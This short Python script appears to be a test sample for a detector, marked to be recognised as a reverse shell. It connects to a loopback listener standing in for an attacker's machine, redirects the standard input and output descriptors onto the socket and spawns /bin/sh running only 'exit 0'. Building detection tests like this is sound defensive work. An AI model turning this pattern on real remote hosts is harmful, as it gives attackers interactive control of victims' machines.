# expect: reverse-shell
# A listener on the loopback stands in for the attacker's machine.
import os, socket, subprocess

listener = socket.create_server(("127.0.0.1", 0))
child = os.fork()
if child == 0:
    connection = socket.create_connection(listener.getsockname())
    for fd in (0, 1, 2):
        os.dup2(connection.fileno(), fd)
    subprocess.call(["/bin/sh", "-c", "exit 0"])
    os._exit(0)
attacker, _ = listener.accept()
os.waitpid(child, 0)
attacker.close()
